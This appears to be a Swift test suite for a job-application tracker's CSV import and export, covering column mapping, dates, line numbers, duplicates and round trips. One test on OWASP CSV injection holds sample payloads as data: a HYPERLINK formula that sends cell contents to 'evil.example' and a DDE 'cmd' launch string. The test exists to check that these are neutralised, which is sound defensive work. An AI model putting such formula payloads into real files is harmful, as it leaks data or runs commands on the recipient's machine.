import Foundation
import Testing
@testable import OnwardCore

@Suite struct ApplicationsCSVTests {
    let today = LocalDate(iso: "2026-11-23")!

    @Test func huntr_style_export_maps_by_name() throws {
        let csv = "Company,Job Title,Status,URL,Location,Date Applied,Salary,Notes\nMonzo,Junior Backend Engineer,Interviewing,https://monzo.example/jobs/1,London,2026-11-02T09:15:00.000Z,£30k-£35k,Referred by Sam\n"
        let preview = try ApplicationsCSV.preview(csv, existingKeys: [], today: today)
        #expect(preview.errors.isEmpty)
        let row = try #require(preview.rows.first)
        #expect(row.draft.company == "Monzo")
        #expect(row.stage == .interview)
        #expect(row.draft.salary == SalaryRange(minimum: 30000, maximum: 35000))
        #expect(row.moves == [.init(.applied, on: LocalDate(iso: "2026-11-02")!), .init(.interview, on: LocalDate(iso: "2026-11-02")!)])
        #expect(preview.mapping[.roleTitle] == "Job Title")
    }

    @Test func teal_style_export_maps_by_name_case_insensitively() throws {
        let csv = "job position,COMPANY,job url,date applied,excitement,status\nAssociate Developer,Sky,https://sky.example/1,02/11/2026,★★★★,Applied\n"
        let preview = try ApplicationsCSV.preview(csv, existingKeys: [], today: today)
        let row = try #require(preview.rows.first)
        #expect(row.draft.roleTitle == "Associate Developer")
        #expect(row.draft.excitement == 4)
        #expect(row.moves.first?.on.iso == "2026-11-02", "02/11/2026 is the 2nd of November")
    }

    @Test func bom_crlf_quoted_commas_and_newlines_and_blank_lines() throws {
        let csv = "\u{FEFF}Company,Role,Notes\r\n\"Acme, Inc.\",Developer,\"Line one\r\nLine \"\"two\"\"\"\r\n\r\nBeta,Engineer,\r\n"
        let preview = try ApplicationsCSV.preview(csv, existingKeys: [], today: today)
        #expect(preview.errors.isEmpty)
        #expect(preview.rows.map(\.draft.company) == ["Acme, Inc.", "Beta"])
        #expect(preview.rows.first?.draft.notes == "Line one\r\nLine \"two\"" || preview.rows.first?.draft.notes == "Line one\nLine \"two\"")
        // Beta starts on line 5: header 1, Acme 2–3, blank 4.
        #expect(preview.rows.map(\.line) == [2, 5])
    }

    /// Line ends inside fields, in each of the three spellings, keep later line numbers right.
    @Test func line_numbers_count_every_kind_of_line_end_inside_a_field() throws {
        let csv = "Company,Role,Notes\n\"A\",Dev,\"one\rtwo\r\nthree\nfour\"\nB,Dev,\n"
        let preview = try ApplicationsCSV.preview(csv, existingKeys: [], today: today)
        #expect(preview.rows.map(\.line) == [2, 6])
    }

    /// The streaming reading hands over the same rows as the preview, in batches of the size asked.
    @Test func scanning_hands_over_the_preview_rows_in_batches() throws {
        let csv = "Company,Role\n" + (0..<7).map { "Company \($0),Developer" }.joined(separator: "\n") + "\nCompany 1,Developer\n"
        var batches: [[ApplicationsCSV.Row]] = []
        let scanned = try ApplicationsCSV.scan(csv, existingKeys: [], today: today, batchSize: 3) { batches.append($0) }
        let preview = try ApplicationsCSV.preview(csv, existingKeys: [], today: today)
        #expect(batches.map(\.count) == [3, 3, 1])
        #expect(batches.flatMap { $0 } == preview.rows)
        #expect(scanned.rows.isEmpty)
        #expect(scanned.duplicates == preview.duplicates)
        #expect(scanned.duplicates.map(\.line) == [9])
        #expect(scanned.handedOver == 7)
    }

    /// For an import that cannot happen: nothing is handed over after the first wrong line, and
    /// every wrong line is still listed.
    @Test func scanning_stops_handing_over_at_the_first_wrong_line() throws {
        let csv = "Company,Role,URL\nA,Dev,\nB,Dev,\nC,Dev,ftp://c\nD,Dev,\nE,Dev,javascript:e\n"
        var handed: [String] = []
        let scanned = try ApplicationsCSV.scan(csv, existingKeys: [], today: today, batchSize: 2, stopsAtFirstError: true) {
            handed += $0.map(\.draft.company)
        }
        #expect(handed == ["A", "B"])
        #expect(scanned.handedOver == 2)
        #expect(scanned.errors.map(\.line) == [4, 6])
    }

    @Test func wrong_rows_are_reported_by_line_and_the_rest_are_kept() throws {
        let csv = """
        Company,Role,URL,Date Applied,Stage
        Good Co,Developer,https://good.example,2026-11-01,applied
        ,Developer,,2026-11-01,applied
        Bad Url,Developer,ftp://nope,2026-11-01,applied
        Future,Developer,,2027-01-01,applied
        Odd,Developer,,someday,limbo
        """
        let preview = try ApplicationsCSV.preview(csv, existingKeys: [], today: today)
        #expect(preview.rows.map(\.draft.company) == ["Good Co"])
        #expect(preview.errors.map(\.line) == [3, 4, 5, 6])
        #expect(preview.errors[0].message.contains("company"))
        #expect(preview.errors[1].message.contains("http"))
        #expect(preview.errors[2].message.contains("future"))
        #expect(preview.errors[3].message.contains("not a date"))
        #expect(preview.errors[3].message.contains("limbo"))
    }

    @Test func duplicates_of_existing_applications_and_of_earlier_rows_are_skipped() throws {
        let existing: Set = [ApplicationDraft.duplicateKey(company: "Monzo", roleTitle: "Junior Engineer", url: "https://monzo.example/1")]
        let csv = "company,role,url\nMONZO ,junior engineer,https://monzo.example/1\nSky,Developer,\nsky,developer,\n"
        let preview = try ApplicationsCSV.preview(csv, existingKeys: existing, today: today)
        #expect(preview.rows.map(\.draft.company) == ["Sky"])
        #expect(preview.duplicates.map(\.line) == [2, 4])
    }

    @Test func a_file_without_a_company_column_is_refused_with_the_names_it_accepts() {
        #expect(throws: ApplicationsCSV.FileError.missingColumn(.company)) {
            _ = try ApplicationsCSV.preview("Firm,Role\nAcme,Dev\n", existingKeys: [], today: today)
        }
        #expect(throws: ApplicationsCSV.FileError.empty) {
            _ = try ApplicationsCSV.preview("", existingKeys: [], today: today)
        }
    }

    @Test(arguments: [
        ("2026-11-02", "2026-11-02"), ("2026-11-02T23:00:00Z", "2026-11-02"), ("2/11/2026", "2026-11-02"), ("02-11-26", "2026-11-02"),
        ("02.11.2026", "2026-11-02"), ("11/25/2026", "2026-11-25"), ("2 Nov 2026", "2026-11-02"), ("Nov 2, 2026", "2026-11-02"), ("November 2 2026", "2026-11-02"),
    ])
    func dates_in_common_formats(_ text: String, _ iso: String) {
        #expect(LocalDate(loose: text)?.iso == iso)
    }

    @Test(arguments: ["32/13/2026", "yesterday", "2026-13-01", "1/2/3"])
    func impossible_dates_are_not_read(_ text: String) {
        #expect(LocalDate(loose: text) == nil)
    }

    @Test func the_export_imports_back_unchanged() throws {
        let items = [
            ApplicationsCSV.ExportItem(
                draft: ApplicationDraft(company: "Acme, \"Inc.\"", roleTitle: "Developer", url: "https://acme.example/1", location: "Leeds", remote: true,
                                        salary: SalaryRange(minimum: 28000, maximum: 32000), source: .referral, nextAction: "Chase",
                                        nextActionDue: LocalDate(iso: "2026-11-25"), notes: "Two\nlines", excitement: 5),
                stage: .interview,
                moves: [.init(.applied, on: LocalDate(iso: "2026-11-01")!), .init(.screening, on: LocalDate(iso: "2026-11-04")!), .init(.interview, on: LocalDate(iso: "2026-11-10")!)],
                contact: ContactDraft(name: "Sam", role: "Recruiter", email: "sam@acme.example", profileURL: "https://linkedin.example/sam")),
            ApplicationsCSV.ExportItem(draft: ApplicationDraft(company: "Beta", roleTitle: "Engineer"), stage: .wishlist, moves: [.init(.wishlist, on: LocalDate(iso: "2026-11-20")!)], contact: nil),
        ]
        let csv = ApplicationsCSV.export(items)
        #expect(csv.hasPrefix("company,role_title,url,"))
        #expect(csv.contains("\r\n"))
        let preview = try ApplicationsCSV.preview(csv, existingKeys: [], today: today)
        #expect(preview.errors.isEmpty)
        #expect(preview.rows.map(\.draft) == items.map(\.draft))
        #expect(preview.rows.map(\.stage) == items.map(\.stage))
        #expect(preview.rows.map(\.moves) == items.map(\.moves))
        #expect(preview.rows.map(\.contact) == items.map(\.contact))
    }

    /// OWASP's CSV injection: no cell of an export starts a formula, and the import undoes it.
    @Test func formulas_are_neutralised_in_the_export_and_restored_on_import() throws {
        let hostile = #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#
        let items = [
            ApplicationsCSV.ExportItem(
                draft: ApplicationDraft(company: hostile, roleTitle: "+1 Developer", location: "@Leeds", nextAction: "-call them", notes: "=1+2"),
                stage: .applied, moves: [.init(.applied, on: LocalDate(iso: "2026-11-01")!)],
                contact: ContactDraft(name: "=cmd|' /C calc'!A0", role: "-Recruiter", email: "", profileURL: "")),
        ]
        let csv = ApplicationsCSV.export(items)
        for line in csv.split(separator: "\r\n").dropFirst() {
            for cell in line.split(separator: ",", omittingEmptySubsequences: false) {
                let text = cell.hasPrefix("\"") ? cell.dropFirst() : cell
                #expect(!(text.first.map { "=+-@\t\r".contains($0) } ?? false), "a live formula: \(cell)")
            }
        }
        #expect(csv.contains("'=HYPERLINK"))
        let preview = try ApplicationsCSV.preview(csv, existingKeys: [], today: today)
        #expect(preview.errors.isEmpty)
        #expect(preview.rows.map(\.draft) == items.map(\.draft))
        #expect(preview.rows.map(\.contact) == items.map(\.contact))
    }

    @Test(arguments: [("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), ("'=kept", "''=kept"), ("'plain", "'plain"), ("", "")])
    func a_cell_is_neutralised_only_when_it_starts_a_formula(_ raw: String, _ written: String) {
        #expect(ApplicationsCSV.neutralised(raw) == written)
        #expect(ApplicationsCSV.restored(ApplicationsCSV.neutralised(raw)) == raw)
    }
}
